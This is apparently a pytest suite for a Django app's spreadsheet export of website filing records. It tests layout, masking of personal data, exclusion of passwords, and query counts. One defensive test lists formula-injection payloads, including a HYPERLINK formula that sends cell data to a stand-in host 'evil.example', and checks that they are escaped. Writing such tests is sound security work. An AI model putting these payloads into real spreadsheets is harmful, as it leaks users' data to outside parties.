"""Export of filings (issue 6): real xlsx and csv files, read back with openpyxl and csv."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests import factories
from tests.ticket_factories import TicketFactory
from wagtail_beian.models import Filing
from wagtail_beian.spreadsheets import columns as C
from wagtail_beian.spreadsheets.exporting import iter_csv, write_xlsx

pytestmark = pytest.mark.django_db


def xlsx_rows(filings, mask_personal=False):
    out = io.BytesIO()
    write_xlsx(filings, out, mask_personal=mask_personal)
    out.seek(0)
    workbook = openpyxl.load_workbook(out)
    sheet = workbook.worksheets[0]
    return sheet, [list(r) for r in sheet.iter_rows(values_only=True)]


def csv_bytes(filings, mask_personal=False):
    return b"".join(iter_csv(filings, mask_personal=mask_personal))


def csv_rows(filings, mask_personal=False):
    data = csv_bytes(filings, mask_personal)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_dicts(rows):
    header, *body = rows
    keys = [c.key for c in C.COLUMNS]
    assert header == C.headers("zh-hans")
    return [dict(zip(keys, row)) for row in body]


def two_site_filing(owner):
    filing = factories.FilingFactory(owner=owner, documents=False)
    factories.WebsiteFactory(filing=filing, sort_order=1)
    return Filing.objects.get(pk=filing.pk)


def test_xlsx_has_one_row_per_website_with_subject_website_and_access(customer):
    filing = two_site_filing(customer)
    sheet, rows = xlsx_rows(Filing.objects.all())
    assert sheet.freeze_panes == "A2"
    records = as_dicts(rows)
    assert len(records) == 2
    websites = list(filing.websites.order_by("sort_order", "pk"))
    for record, website in zip(records, websites):
        assert record["filing_id"] == filing.pk
        assert record["customer"] == "customer-a"
        assert record["subject_name"] == filing.subject.name
        assert record["nature"] == "企业"  # code tables by label
        assert record["province"] == filing.subject.province.name
        assert record["domain"] == website.domain
        assert record["website_name"] == website.name
        access = website.access_records.get()
        assert record["access_method"] == access.method.name
        assert record["ip_addresses"] == access.ip_addresses
        assert record["state"] == "信息录入"
        assert record["domain_owner_is_organizer"] == "是"


def test_csv_is_utf8_with_bom_so_excel_shows_chinese(customer):
    filing = two_site_filing(customer)
    data = csv_bytes(Filing.objects.all())
    assert data.startswith(b"\xef\xbb\xbf")
    records = as_dicts(csv_rows(Filing.objects.all()))
    assert [r["domain"] for r in records] == [w.domain for w in filing.websites.order_by("sort_order", "pk")]
    assert records[0]["subject_name"] == filing.subject.name
    assert records[0]["filing_id"] == str(filing.pk)
    assert records[0]["created"] == timezone.localdate(filing.created_at).isoformat()


def test_a_filing_without_websites_still_has_a_row(customer):
    filing = factories.FilingFactory(owner=customer, websites=[], documents=False)
    records = as_dicts(csv_rows(Filing.objects.all()))
    assert len(records) == 1
    assert records[0]["subject_name"] == filing.subject.name
    assert records[0]["domain"] == ""


def test_certificate_numbers_masked_without_personal_data_permission(customer):
    filing = factories.FilingFactory(owner=customer)
    subject = filing.subject
    website = filing.websites.get()
    for rows in (xlsx_rows(Filing.objects.all(), mask_personal=True)[1], csv_rows(Filing.objects.all(), mask_personal=True)):
        record = as_dicts(rows)[0]
        assert record["certificate_number"] == subject.masked_certificate_number
        assert "*" in record["certificate_number"]
        assert record["subject_responsible_certificate_number"] == subject.masked_responsible_certificate_number
        assert record["website_responsible_certificate_number"] == website.masked_responsible_certificate_number
    for data in (csv_bytes(Filing.objects.all(), mask_personal=True),):
        assert subject.certificate_number.encode() not in data
        assert subject.responsible_certificate_number.encode() not in data
    full = as_dicts(xlsx_rows(Filing.objects.all(), mask_personal=False)[1])[0]
    assert full["certificate_number"] == subject.certificate_number
    assert full["subject_responsible_certificate_number"] == subject.responsible_certificate_number


def test_f10_filing_password_and_documents_are_never_exported(customer):
    filing = factories.FilingFactory(owner=customer)
    ticket = TicketFactory(owner=customer, filing=filing)
    ticket.set_filing_password("Secret-Pass-4711")
    ticket.save()
    data = csv_bytes(Filing.objects.all())
    assert b"Secret-Pass-4711" not in data
    assert ticket.filing_password_encrypted.encode() not in data
    document_names = {d.file.name for d in filing.documents.all()} | {d.original_name for d in filing.documents.all()}
    assert document_names
    text = data.decode("utf-8-sig")
    assert not any(name in text for name in document_names)
    _sheet, rows = xlsx_rows(Filing.objects.all())
    flat = " ".join(str(v) for row in rows for v in row if v is not None)
    assert "Secret-Pass-4711" not in flat and not any(name in flat for name in document_names)


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1"])
def test_formula_injection_is_escaped_in_both_formats(customer, payload):
    filing = factories.FilingFactory(owner=customer)
    filing.subject.name = payload
    filing.subject.save()
    _sheet, rows = xlsx_rows(Filing.objects.all())
    assert as_dicts(rows)[0]["subject_name"] == "'" + payload
    out = io.BytesIO()
    write_xlsx(Filing.objects.all(), out, mask_personal=False)
    out.seek(0)
    sheet = openpyxl.load_workbook(out).worksheets[0]
    name_col = [c.key for c in C.COLUMNS].index("subject_name") + 1
    cell = sheet.cell(row=2, column=name_col)
    assert cell.data_type == "s"  # text, not a formula
    assert as_dicts(csv_rows(Filing.objects.all()))[0]["subject_name"] == "'" + payload


def test_export_queries_do_not_grow_with_rows(customer):
    """Constant queries per chunk: 2 and 9 filings (with 2 websites each) cost the same."""
    counts = []
    for size in (2, 9):
        while Filing.objects.count() < size:
            two_site_filing(customer)
        with CaptureQueriesContext(connection) as ctx:
            csv_bytes(Filing.objects.all())
        counts.append(len(ctx.captured_queries))
        with CaptureQueriesContext(connection) as ctx:
            xlsx_rows(Filing.objects.all())
        counts.append(len(ctx.captured_queries))
    assert Filing.objects.count() == 9
    assert counts[0] == counts[2] and counts[1] == counts[3], counts
    assert counts[0] <= 12  # 6 code tables once; per chunk: filings, websites, access, 2 code lists


def test_chunks_cover_every_filing_exactly_once(customer):
    created = [factories.FilingFactory(owner=customer, documents=False) for _ in range(5)]
    records = list(iter_csv(Filing.objects.order_by("pk"), mask_personal=False, chunk_size=2))
    assert len(records) == 1 + 3  # header, then chunks of 2, 2, 1 filings
    rows = as_dicts(list(csv.reader(io.StringIO(b"".join(records).decode("utf-8-sig"), newline=""))))
    assert [int(r["filing_id"]) for r in rows] == [f.pk for f in created]
